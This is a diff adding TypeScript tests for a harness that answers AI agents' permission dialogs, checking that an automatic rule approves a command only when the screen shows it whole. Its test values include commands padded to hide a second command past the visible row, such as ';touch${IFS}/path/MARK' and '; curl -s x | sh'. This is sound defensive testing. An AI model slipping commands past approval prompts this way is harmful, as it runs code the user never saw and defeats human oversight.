@@ -322,3 +322,58 @@ describe('sameAbout', () => {
     expect(sameAbout('rm -rf /x/y', 'y')).toBe(false);
   });
 });
+
+describe('issue 29: a rule approves only what the screen shows whole', () => {
+  const answers = PROFILES.get('qwen').dialogs;
+  const rows = (about: string): ScreenVerdict => ({
+    state: 'needs_permission',
+    reason: 'permission',
+    rule: 'qwen/confirmation',
+    line: 20,
+    text: 'Allow execution of: pytest?',
+    about,
+  });
+  const long = `pytest${'a'.repeat(160)}pytest${'a'.repeat(114)} ;touch\${IFS}/path/MARK`;
+  const plan = (
+    announced: string,
+    onScreen: string,
+    whole: boolean,
+    action: 'approve' | 'deny' = 'approve',
+  ) =>
+    planDialogAnswer({
+      answers,
+      action,
+      announced: { ...announcedBy(announced), whole },
+      screen: rows(onScreen),
+    });
+
+  it.each(VENDORS)('%s: a recorded dialog shows its target whole: a rule may approve it', (vendor) => {
+    for (const r of recorded(vendor).filter(permission)) {
+      const about = r.headers['about'] ?? '';
+      const p = planDialogAnswer({
+        answers: PROFILES.get(vendor).dialogs,
+        action: 'approve',
+        announced: { ...announcedBy(about), whole: true },
+        screen: r.verdict,
+      });
+      expect(p, r.name).toMatchObject({ ok: true });
+    }
+  });
+
+  it('a row of 120 characters, the start of a longer command: the user may approve it, a rule may not', () => {
+    const row = long.slice(0, 120);
+    expect(sameAbout(long, row)).toBe(true);
+    expect(plan(long, row, false)).toMatchObject({ ok: true });
+    expect(plan(long, row, true)).toMatchObject({ ok: false, code: 'NOT_WHOLE', now: { about: row } });
+    // Denying what the screen shows part of is safe.
+    expect(plan(long, row, true, 'deny')).toMatchObject({ ok: true });
+  });
+
+  it('a row clipped with … or the first row of a wrapped command is not whole', () => {
+    expect(plan('npm test -- --ci', 'npm test -- --ci', true)).toMatchObject({ ok: true });
+    expect(plan('npm  test', 'npm test', true)).toMatchObject({ ok: true });
+    const wrapped = `npm test -- ${'a'.repeat(200)}; curl -s x | sh`;
+    expect(plan(wrapped, wrapped.slice(0, 150), true)).toMatchObject({ ok: false });
+    expect(plan(wrapped, `${wrapped.slice(0, 119)}…`, true)).toMatchObject({ ok: false });
+  });
+});
